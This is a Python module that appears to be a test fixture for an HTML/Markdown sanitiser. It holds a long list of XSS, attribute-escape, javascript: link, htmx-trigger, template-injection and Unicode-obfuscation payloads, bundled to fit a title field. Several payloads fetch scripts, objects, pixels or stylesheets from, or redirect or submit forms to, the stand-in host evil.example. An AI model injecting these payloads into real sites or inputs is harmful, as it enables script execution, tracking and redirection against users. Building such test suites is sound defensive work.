"""Text that tries to run, to fetch or to break out, in bundles that fit into a title."""

RAN = 'window.ran=1,alert("ran")'
SUM = "50337"  # what {{7*7191}} would become
TRICKS = (
    # elements that run by themselves
    f"<script>{RAN}</script>",
    f"</script><script>{RAN}</script>",
    f"<ScRiPt >{RAN}</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror='{RAN}'>",
    f"<img src=/nowhere onerror={RAN}//",
    f"<svg onload='{RAN}'>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg/onload={RAN}>",
    f"<body onload='{RAN}'>",
    f"<input autofocus onfocus='{RAN}'>",
    f"<details open ontoggle='{RAN}'><summary>x",
    f"<video><source onerror='{RAN}'></video>",
    f"<audio src=x onerror='{RAN}'>",
    f"<marquee onstart='{RAN}'>m</marquee>",
    f"<div style='animation:x' onanimationstart='{RAN}'>",
    f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
    f"<iframe src='javascript:{RAN}'></iframe>",
    "<object data='//evil.example/x'></object>",
    "<embed src='//evil.example/x'>",
    # elements that fetch or redirect
    "<img src='//evil.example/pixel'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>p",
    "<form action='//evil.example'><button autofocus>go</button></form>",
    # out of an attribute, a text field, a title, a comment
    f"\" autofocus onfocus='{RAN}' x=\"",
    f"' onmouseover='{RAN}' x='",
    f"\"><img src=x onerror='{RAN}'>",
    f"'><svg onload='{RAN}'>",
    f"</textarea><img src=x onerror='{RAN}'>",
    f"</title><img src=x onerror='{RAN}'>",
    f"</option></select><img src=x onerror='{RAN}'>",
    f"</pre></p><img src=x onerror='{RAN}'>",
    f"--><img src=x onerror='{RAN}'><!--",
    f"]]><img src=x onerror='{RAN}'>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RAN}'>\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RAN}'>",
    f"&lt;img src=x onerror='{RAN}'&gt;",
    # Markdown
    f"[press](javascript:{RAN})",
    f"[press](JaVaScRiPt&colon;{RAN})",
    f"[press](\x01javascript:{RAN})",
    f"[press](data:text/html,<script>{RAN}</script>)",
    f"[press](vbscript:{RAN})",
    f"![p](x\"onerror='{RAN}')",
    "![pixel](//evil.example/p.png)",
    "![pixel](https://evil.example/p.png)",
    f"<javascript:{RAN}>",
    f"[a]: javascript:{RAN}\n\n[a]",
    f"`<img src=x onerror='{RAN}'>`",
    f"```\"onload='{RAN}'\nx\n```",
    # htmx and templates
    "<div hx-get='/evil' hx-trigger='load'>h</div>",
    f"<b hx-on:click='{RAN}' hx-on::load='{RAN}'>h</b>",
    "<b data-hx-get='/evil' data-hx-trigger='load'>h</b>",
    f"<b hx-vals='js:{{x:{RAN}}}' hx-get='/evil' hx-trigger='load'>",
    "{{7*7191}} ${7*7191} #{7*7191} <%= 7*7191 %> {%print(7*7191)%}",
    # letters
    f"\uff1cscript\uff1e{RAN}\uff1c/script\uff1e",
    f"\u202e<img src=x onerror='{RAN}'>\u2066",
    f"<scr\u200bipt>{RAN}</scr\u200bipt>",
    f"<img src=x \u2028onerror='{RAN}'>",
    f"+ADw-script+AD4-{RAN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RAN}%3C/script%3E",
    f"\\u003cscript\\u003e{RAN}\\u003c/script\\u003e",
    "W" * 280,
)


def bundles(longest: int = 290) -> list[tuple[str, ...]]:
    """Return the tricks in groups whose joined length fits into a title."""
    made: list[tuple[str, ...]] = [()]
    for trick in TRICKS:
        if len(" ".join((*made[-1], trick))) > longest:
            made.append(())
        made[-1] = (*made[-1], trick)
    return made
